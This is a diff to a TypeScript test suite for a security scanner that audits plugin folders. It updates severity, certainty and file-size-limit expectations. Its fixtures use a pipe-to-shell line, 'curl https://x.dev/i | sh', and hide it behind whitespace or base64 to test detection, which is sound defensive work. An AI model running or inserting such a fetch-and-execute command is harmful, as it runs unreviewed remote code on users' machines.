@@ -6,9 +6,10 @@ import { describe, expect, test } from 'vitest';
 import { zip } from '../../test/support/archives.ts';
 import { auditDirectory, auditTree as audit } from '../../test/support/audited.ts';
 import { makeTree, skillText } from '../../test/support/tree.ts';
+import { MAX_PLUGIN_FILE_BYTES } from '../model/limits.ts';
 import { fail } from '../model/outcome.ts';
 import { auditFiles } from './audit-files.ts';
-import { EXAMINATION_LIMITS, auditFolder, type ExaminationLimits } from './audit-repository.ts';
+import { auditFolder } from './audit-repository.ts';
 import { LISTED_PER_FILE, LISTED_PER_RULE } from './report.ts';
 
 const PIPE = 'curl https://x.dev/i | sh';
@@ -63,8 +64,8 @@ describe('an audit of a folder', () => {
       'scripts/a.sh': `sudo true\n\n${PIPE}\n`,
     });
     expect(findings.map(({ rule, severity, file, line }) => [rule, severity, file, line])).toEqual([
+      ['SP101', 'critical', 'SKILL.md', 5],
       ['SP101', 'critical', 'scripts/a.sh', 3],
-      ['SP101', 'high', 'SKILL.md', 5],
       ['SP304', 'low', 'scripts/a.sh', 1],
     ]);
     expect(findings[0]).toMatchObject({ excerpt: PIPE, why: expect.stringContaining('unseen') });
@@ -83,7 +84,9 @@ describe('an audit of a folder', () => {
   test('lists a few findings per rule and file, and counts the rest', async () => {
     const { findings, unlisted } = await audit({ 'a.sh': `${PIPE}\n`.repeat(50) });
     expect(findings).toHaveLength(LISTED_PER_FILE);
-    expect(unlisted).toEqual([{ rule: 'SP101', severity: 'critical', file: 'a.sh', count: 50 - LISTED_PER_FILE }]);
+    expect(unlisted).toEqual([
+      { rule: 'SP101', severity: 'critical', certainty: 'likely', file: 'a.sh', count: 50 - LISTED_PER_FILE },
+    ]);
   });
 
   test('limits the findings per rule and the hosts over all files, and counts the rest', async () => {
@@ -96,11 +99,11 @@ describe('an audit of a folder', () => {
     expect(names.unlistedMentions).toBe(101);
   });
 
-  test('keeps a severe finding among many mild ones of the same rule', async () => {
+  test('keeps a likely finding among many possible ones of the same rule', async () => {
     const { findings } = await audit({
-      'a.md': `${`${PIPE}\n`.repeat(50)}\n${Buffer.from(`${PIPE} and something more`).toString('base64')}\n`,
+      'a.md': `${`Never run ${PIPE}\n`.repeat(50)}\n${Buffer.from(`${PIPE} and something more`).toString('base64')}\n`,
     });
-    expect(findings[0]).toMatchObject({ rule: 'SP101', severity: 'critical', line: 52 });
+    expect(findings[0]).toMatchObject({ rule: 'SP101', severity: 'critical', certainty: 'likely', line: 52 });
   });
 
   test('returns the same result for the same folder', async () => {
@@ -110,47 +113,38 @@ describe('an audit of a folder', () => {
 });
 
 describe('an audit reads files to the end', () => {
-  /** So small that files are read in parts. */
-  const LIMITS: ExaminationLimits = { ...EXAMINATION_LIMITS, maxWholeBytes: 10_000, partBytes: 4_096 };
-  const findPipe = async (root: string, limits = EXAMINATION_LIMITS): Promise<unknown> =>
-    (await auditDirectory(root, limits)).findings.filter(({ rule }) => rule === 'SP101');
+  const findPipe = async (root: string): Promise<unknown> =>
+    (await auditDirectory(root)).findings.filter(({ rule }) => rule === 'SP101');
 
   test('and finds a command behind megabytes of spaces', async () => {
     const root = makeTree({ 'a.sh': `${' '.repeat(3 * 1024 * 1024)}\n${PIPE}\n${' '.repeat(100_000)}` });
     expect(await findPipe(root)).toMatchObject([{ file: 'a.sh', line: 2 }]);
   });
 
-  test('and finds a command at the end of a file that is too large for memory', async () => {
-    const root = makeTree({ 'a.bin': '' });
-    truncateSync(join(root, 'a.bin'), 50_000);
-    writeFileSync(join(root, 'a.bin'), PIPE, { flag: 'a' });
-    expect(await findPipe(root, LIMITS)).toMatchObject([{ file: 'a.bin' }]);
+  test('up to the size that can be installed, and refuses a larger file unread', async () => {
+    const root = makeTree({ 'a.sh': '', 'b.png': '', 'c.sh': '' });
+    truncateSync(join(root, 'a.sh'), MAX_PLUGIN_FILE_BYTES + 1);
+    truncateSync(join(root, 'b.png'), MAX_PLUGIN_FILE_BYTES + 1);
+    writeFileSync(join(root, 'c.sh'), `${' '.repeat(MAX_PLUGIN_FILE_BYTES - PIPE.length)}${PIPE}`);
+    const { findings } = await auditDirectory(root);
+    expect(findings.map(({ rule, severity, file }) => [rule, severity, file])).toEqual([
+      ['SP101', 'critical', 'c.sh'],
+      ['SP902', 'critical', 'a.sh'],
+      ['SP902', 'high', 'b.png'],
+      ['SP606', 'medium', 'c.sh'],
+      ['SP607', 'info', 'c.sh'],
+    ]);
   });
 
-  test('and reports an archive at the end of a file that is too large for memory', async () => {
-    const root = makeTree({ 'a.bin': '' });
-    truncateSync(join(root, 'a.bin'), 50_000);
-    writeFileSync(join(root, 'a.bin'), zip([{ name: 'x.sh', content: PIPE }]), { flag: 'a' });
-    expect((await auditDirectory(root, LIMITS)).findings).toMatchObject([{ rule: 'SP705', file: 'a.bin' }]);
-  });
-
-  test('up to a limit, and reports the bytes that it did not read', async () => {
-    const root = makeTree({ 'a.sh': `${' '.repeat(50_000)}${PIPE}` });
-    const { findings } = await auditDirectory(root, { ...LIMITS, maxFileBytes: 20_000 });
-    expect(findings).toMatchObject([{ file: 'a.sh', excerpt: expect.stringContaining('bytes were not read') }]);
-  });
-
-  test('within the limits that the guide documents', () => {
+  test('within the limit that the guide documents', () => {
     const guide = readFileSync('docs/guide/audit.md', 'utf8');
-    expect(guide).toContain(`Reading stops at ${EXAMINATION_LIMITS.maxFileBytes / 1024 ** 3} GiB`);
-    expect(guide).toContain(`a file over ${EXAMINATION_LIMITS.maxWholeBytes / 1024 ** 2} MiB is not read`);
-    expect(guide).toContain(`archives up to ${EXAMINATION_LIMITS.maxWholeBytes / 1024 ** 2} MiB are unpacked`);
+    expect(guide).toContain(`A file over ${MAX_PLUGIN_FILE_BYTES / 1024 ** 2} MiB`);
   });
 
   test('and reports files that it cannot read', async () => {
     const { findings } = await auditFiles({
       files: [{ path: 'a', size: 3, executable: false, read: async () => fail('STORE_FAILED', 'no reason') }],
-      refused: [{ path: 'b', reason: 'is nested deeper than 32 levels' }],
+      refused: [{ path: 'b', kind: 'too-deep', reason: 'is nested deeper than 32 levels' }],
     });
     expect(findings.map(({ rule, file, excerpt }) => [rule, file, excerpt])).toEqual([
       ['SP901', 'a', 'its 3 bytes were not read: no reason'],
